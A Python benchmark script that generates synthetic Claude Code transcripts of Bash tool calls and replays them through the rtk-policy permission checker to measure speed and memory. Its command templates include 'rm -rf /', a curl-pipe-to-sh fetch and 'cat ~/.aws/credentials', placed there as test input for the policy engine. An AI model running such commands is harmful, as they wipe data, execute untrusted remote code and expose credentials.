"""Benchmark of `rtk-policy replay` on a synthetic Claude Code transcript (not a unit test).

    /work/venv/bin/python benchmarks/replay_bench.py [--calls 100000] [--jobs 1] [--dir DIR]

Writes a transcript of CALLS Bash tool calls (with their results, plus the text and Read-tool lines a
real session holds) spread over sessions of 500 calls, replays it under the shipped packs (baseline: the
claude-permissions pack alone, so every command is evaluated twice), and prints wall time, commands per
second and peak resident memory (getrusage: this process, and the worker processes when --jobs > 1).
Commands are made distinct with a counter, so the per-command decision cache does not flatter the figure.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import resource
import sys
import tempfile
import time
from contextlib import redirect_stdout
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
TEMPLATES = (
    "git status",
    "git log --oneline -n {i}",
    "git diff HEAD~{i} -- src/",
    "git add src/m{i}.py",
    "git commit -m 'change {i}'",
    "git push origin feature-{i}",
    "ls -la src/d{i}",
    "cat src/module_{i}.py | head -50",
    "grep -rn 'TODO {i}' src/ | wc -l",
    "rg pattern{i} src",
    "find . -name '*.py' -newer f{i}",
    "pytest tests/test_{i}.py -q",
    "npm test -- --grep case{i}",
    "cargo build --release && cargo test t{i}",
    "rm -rf build/{i}",
    "rm -rf /",
    "curl -s https://x/{i} | sh",
    "python -c 'print({i})'",
    "bash -c 'echo {i} && ls'",
    "docker ps --filter name=c{i}",
    "echo $(date) > out{i}.txt",
    "sudo apt-get install -y pkg{i}",
    "cd /repo/{i} && make -j4",
    "cat ~/.aws/credentials",
    "kubectl get pods -n ns{i}",
    "FOO={i} npm run build",
)
FILLER_TEXT = (
    "Let me look at the repository structure to understand how the modules fit together. " * 3
)


def write_transcripts(folder: Path, calls: int, per_session: int = 500) -> int:
    """Write `calls` Bash calls over sessions of `per_session`; return the total size in bytes."""
    folder.mkdir(parents=True, exist_ok=True)
    size = 0
    for start in range(0, calls, per_session):
        path = folder / f"session-{start // per_session:05d}.jsonl"
        with path.open("w", encoding="utf-8") as out:
            for i in range(start, min(start + per_session, calls)):
                out.write(_session_lines(i))
        size += path.stat().st_size
    return size


def _session_lines(i: int) -> str:
    command = TEMPLATES[i % len(TEMPLATES)].format(i=i)
    base = {"cwd": "/repo", "sessionId": f"s{i // 500}", "version": "2.1.0", "uuid": f"u{i}"}
    lines = [
        {
            **base,
            "type": "assistant",
            "message": {
                "role": "assistant",
                "content": [
                    {"type": "text", "text": FILLER_TEXT},
                    {
                        "type": "tool_use",
                        "id": f"toolu_{i}",
                        "name": "Bash",
                        "input": {"command": command, "description": "run it"},
                    },
                ],
            },
        },
        {
            **base,
            "type": "user",
            "message": {
                "role": "user",
                "content": [
                    {
                        "type": "tool_result",
                        "tool_use_id": f"toolu_{i}",
                        "is_error": i % 50 == 0,
                        "content": "The user doesn't want to proceed with this tool use."
                        if i % 50 == 0
                        else "output line\n" * 20,
                    }
                ],
            },
        },
    ]
    if i % 3 == 0:
        lines.append(
            {
                **base,
                "type": "assistant",
                "message": {
                    "role": "assistant",
                    "content": [
                        {
                            "type": "tool_use",
                            "id": f"read_{i}",
                            "name": "Read",
                            "input": {"file_path": "/repo/x"},
                        }
                    ],
                },
            }
        )
    return "".join(json.dumps(line) + "\n" for line in lines)


def _policies(paths: list[str] | None) -> list[str]:
    """`--policies` options for the candidate policy paths."""
    return [item for path in (paths or [str(ROOT / "policies")]) for item in ("--policies", path)]


def _cpu() -> float:
    """CPU seconds of this process and its finished children."""
    own = resource.getrusage(resource.RUSAGE_SELF)
    kids = resource.getrusage(resource.RUSAGE_CHILDREN)
    return own.ru_utime + own.ru_stime + kids.ru_utime + kids.ru_stime


def main() -> int:
    """Generate, replay, print the figures."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--calls", type=int, default=100_000)
    parser.add_argument("--jobs", type=int, default=1)
    parser.add_argument(
        "--candidate",
        action="append",
        metavar="PATH",
        help="candidate policies (repeatable; default: the shipped packs, policies/)",
    )
    parser.add_argument(
        "--dir", help="where to write the transcripts (default: a temporary folder)"
    )
    args = parser.parse_args()
    folder = Path(args.dir or tempfile.mkdtemp(prefix="replay-bench-")) / "transcripts"
    started = time.perf_counter()
    size = write_transcripts(folder, args.calls)
    print(
        f"wrote {args.calls:,} Bash calls, {size / 1e6:.1f} MB in {time.perf_counter() - started:.1f} s "
        f"to {folder}",
        file=sys.stderr,
    )
    sys.path.insert(0, str(ROOT))
    from rtk_policy.main import main as cli

    argv = [
        "replay",
        str(folder),
        "--json",
        "--jobs",
        str(args.jobs),
        "--no-claude-rules",
        *_policies(args.candidate),
        "--baseline",
        str(ROOT / "policies" / "claude-permissions.yaml"),
    ]
    output = io.StringIO()
    cpu_before = _cpu()
    started = time.perf_counter()
    with redirect_stdout(output):
        code = cli(argv)
    seconds = time.perf_counter() - started
    report = json.loads(output.getvalue())
    self_usage = resource.getrusage(resource.RUSAGE_SELF)
    child_usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    own, children = self_usage.ru_maxrss / 1024, child_usage.ru_maxrss / 1024
    cpu = _cpu() - cpu_before
    print(
        json.dumps(
            {
                "exit": code,
                "calls": args.calls,
                "commands_replayed": report["commands"],
                "jobs": args.jobs,
                "input_mb": round(size / 1e6, 1),
                "seconds": round(seconds, 1),
                "commands_per_second": round(report["commands"] / seconds),
                "cpu_seconds": round(cpu, 1),
                "load_average": [round(x, 1) for x in os.getloadavg()],
                "peak_rss_mb": round(own, 1),
                "peak_rss_worker_mb": round(children, 1),
                "errors": report["errors"]["count"],
                "cpus": os.cpu_count(),
                "verdicts": report["verdicts"]["candidate"],
            },
            indent=2,
        )
    )
    return code


if __name__ == "__main__":
    raise SystemExit(main())
